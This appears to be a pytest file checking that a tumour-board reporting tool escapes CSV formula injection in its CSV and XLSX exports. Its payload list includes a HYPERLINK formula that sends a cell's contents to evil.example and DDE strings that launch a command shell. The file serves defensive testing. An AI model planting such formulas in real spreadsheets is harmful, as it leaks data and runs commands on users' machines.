"""Spreadsheet safety (OWASP CSV injection): text starting with =, +, -, @, tab or CR is
written as text in XLSX and escaped with a leading ' in CSV; other text is unchanged."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mtb_desk.reports.decisions_table import FORMULA_STARTS, export_decisions
from mtb_desk.reports.records import AgendaCaseInput, MinutesInput

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _minutes(decision: str, hospital: str = "Haukeland") -> MinutesInput:
    case = AgendaCaseInput(position=1, study_id="S-1", hospital=hospital, decision=decision)
    return MinutesInput("MIN-1", "Board", dt.date(2026, 1, 7), "MTB", "Chair", cases=(case,))


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))[1]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_escaped_in_csv_and_text_in_xlsx(payload: str, tmp_path: Path) -> None:
    import openpyxl

    export_decisions(_minutes(payload, hospital=payload), tmp_path / "d.csv")
    row = _csv_cells(tmp_path / "d.csv")
    assert row.count("'" + payload) == 2
    export_decisions(_minutes(payload, hospital=payload), tmp_path / "d.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "d.xlsx").active
    cells = [c for c in sheet[2] if c.value == payload]
    assert len(cells) == 2
    assert all(c.data_type == "s" for c in cells)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
               max_size=30))
def test_any_text_comes_back_as_written_or_escaped(tmp_path: Path, value: str) -> None:
    export_decisions(_minutes(value), tmp_path / "h.csv")
    cell = _csv_cells(tmp_path / "h.csv")[11]  # the decision column
    expected = "'" + value if value.startswith(FORMULA_STARTS) else value
    assert cell == expected
